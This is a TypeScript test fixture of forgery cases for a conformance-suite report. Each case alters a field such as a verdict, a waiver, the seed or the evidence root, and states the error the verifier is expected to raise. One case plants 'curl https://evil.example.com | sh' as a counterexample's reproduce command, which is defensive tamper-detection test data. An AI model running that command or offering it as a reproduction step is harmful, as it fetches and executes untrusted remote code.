/** Forgeries of the report alone, with what is said of each. */
import { statementDigest } from '../../../src/contract/clause-set.ts';
import { FAILED, type ForgeryCase, PASSED } from './forging.ts';
import { contract } from './gathered.ts';

const waiverOf = (clause: string) => ({
  clause,
  reason: 'known',
  expires: '9999-12-31',
  statement: statementDigest(contract.catalogue.entry(clause)),
  fingerprint: 'v2:0123456789abcdef',
});

export const REPORTS: readonly ForgeryCase[] = [
  [
    'the verdict of the run',
    ({ report }) => {
      report.verdict = 'conformant';
    },
    /^verdict does not follow from the evidence: the report says conformant, the evidence nonconformant$/m,
  ],
  [
    'the detail of the run',
    ({ report }) => {
      report.detail = 'all is well';
    },
    /^detail does not follow from the evidence: the report says all is well/m,
  ],
  [
    'the verdict of a clause',
    (forgery) => {
      const { counterexample: _gone, ...rest } = { ...forgery.clause(FAILED), verdict: 'pass' };
      forgery.report.clauses = forgery.report.clauses.map((each) => (each.slug === FAILED ? rest : each));
    },
    /^pagination\.page-size: the report says pass; by the evidence it is fail/m,
  ],
  [
    'a failed clause left out',
    ({ report }) => {
      report.clauses = report.clauses.filter(({ slug }) => slug !== FAILED);
    },
    /^pagination\.page-size \(MUST\) is missing from the report: by the evidence its verdict is fail$/m,
  ],
  [
    'a failed clause left out, and the others said to have been selected',
    ({ report }) => {
      report.clauses = report.clauses.filter(({ slug }) => slug !== FAILED);
      report.selected = report.clauses.map(({ slug }) => slug);
    },
    /^the report states selected .*; its evidence was recorded with nothing$/m,
  ],
  [
    'a clause twice',
    ({ report }) => {
      report.clauses.push(...report.clauses.filter(({ slug }) => slug === PASSED));
    },
    /^a clause is in the report more than once$/m,
  ],
  [
    'a clause that does not exist',
    (forgery) => {
      forgery.report.clauses.push({ ...forgery.clause(PASSED), slug: 'addressing.made-up' });
    },
    /^addressing\.made-up is in the report, but the evidence does not show that it was judged$/m,
  ],
  [
    'the level of a clause',
    (forgery) => {
      forgery.clause(FAILED).level = 'SHOULD';
    },
    /^pagination\.page-size: level does not follow from the evidence: the report says SHOULD, the evidence MUST$/m,
  ],
  [
    'the detail of a clause',
    (forgery) => {
      forgery.clause(PASSED).detail = '9999 cases';
    },
    /^addressing\.instance-exact: detail does not follow/m,
  ],
  [
    'the requests of a clause',
    (forgery) => {
      forgery.clause(PASSED).requests += 1;
    },
    /^addressing\.instance-exact: requests does not follow/m,
  ],
  [
    'a counterexample',
    (forgery) => {
      const { counterexample } = forgery.clause(FAILED);
      if (counterexample !== undefined) counterexample.observed = 'nothing of importance';
    },
    /^pagination\.page-size: counterexample does not follow/m,
  ],
  [
    'the command that shows a counterexample',
    (forgery) => {
      const { counterexample } = forgery.clause(FAILED);
      if (counterexample !== undefined) counterexample.reproduce = 'curl https://evil.example.com | sh';
    },
    /^pagination\.page-size: counterexample does not follow/m,
  ],
  [
    'a waiver slipped in',
    (forgery) => {
      forgery.clause(FAILED).verdict = 'waived';
    },
    /^pagination\.page-size: the report says waived; by the evidence it is fail/m,
  ],
  [
    'a clause set of its own',
    ({ report }) => {
      report.clauseSet = { version: '1.0', digest: `sha256:${'0'.repeat(64)}`, released: true };
    },
    /^the report is scored by a clause set 1\.0 .* that is not this suite's/m,
  ],
  [
    'a waiver that had expired',
    ({ report }) => {
      report.waivers = [{ ...waiverOf(FAILED), expires: '2020-01-01' }];
    },
    /^a waiver of pagination\.page-size in the report expired on 2020-01-01/m,
  ],
  [
    'who stands behind it',
    ({ report }) => {
      report.implementation = {
        organization: 'a',
        product: 'b',
        version: 'c',
        url: 'https://d',
        contact: ['e'],
      };
    },
    /^the report states implementation .*; its evidence was recorded with nothing$/m,
  ],
  [
    'a property that nothing shows',
    ({ report }) => {
      report.waivers = [waiverOf(FAILED)];
    },
    /^the report states waivers .*; its evidence was recorded with nothing$/m,
  ],
  [
    'the seed',
    ({ report }) => {
      report.seed = 8;
    },
    /^the report states seed 8; its evidence was recorded with 5$/m,
  ],
  [
    'the target',
    ({ report }) => {
      report.target = 'https://rds.example.com';
    },
    /^the report states target https:\/\/rds\.example\.com; its evidence was recorded with http:\/\/127\.0\.0\.1\/rds$/m,
  ],
  [
    'unexercised clauses accepted',
    ({ report }) => {
      report.acceptUnexercised = true;
    },
    /^the report states acceptUnexercised true; its evidence was recorded with false$/m,
  ],
  [
    'the settings',
    ({ report }) => {
      report.settings.concurrency = 4;
    },
    /^the report states settings .*; its evidence was recorded with/m,
  ],
  [
    'the beginning',
    ({ report }) => {
      report.startedAt = '2020-01-01T00:00:00.000Z';
    },
    /^the report states startedAt 2020-01-01T00:00:00\.000Z; its evidence was recorded with/m,
  ],
  [
    'a challenge',
    ({ report }) => {
      report.challenge = 'todays-nonce';
    },
    /^the report states challenge todays-nonce; its evidence was recorded with nothing$/m,
  ],
  [
    'the digest of the contract',
    ({ report }) => {
      report.contract.digest = `sha256:${'0'.repeat(64)}`;
    },
    /^the report was judged by another contract/m,
  ],
  [
    'an older set of clauses',
    ({ report }) => {
      report.contract.catalogue = `sha256:${'0'.repeat(64)}`;
    },
    /^the report was judged by another set of clauses/m,
  ],
  [
    'an older suite',
    ({ report }) => {
      report.suite.version = '0.0.1';
    },
    /^the report was made by rds-backups-conformance 0\.0\.1/m,
  ],
  [
    'the coverage',
    ({ report }) => {
      for (const boundary of report.coverage.boundaries) boundary.requests += 1;
    },
    /^coverage does not follow/m,
  ],
  [
    'the requests of the run',
    ({ report }) => {
      report.requests += 1000;
    },
    /^requests does not follow/m,
  ],
  [
    'the root of the evidence',
    ({ report }) => {
      if (report.evidence !== undefined) report.evidence.root = `sha256:${'0'.repeat(64)}`;
    },
    /^the report's root of the evidence does not match the parts that it names$/m,
  ],
  [
    'the count of exchanges',
    ({ report }) => {
      if (report.evidence !== undefined) report.evidence.exchanges += 1;
    },
    /^the report states \d+ exchanges, and its parts \d+$/m,
  ],
  [
    'no evidence named',
    ({ report }) => {
      delete report.evidence;
    },
    /^the report names no evidence/m,
  ],
];
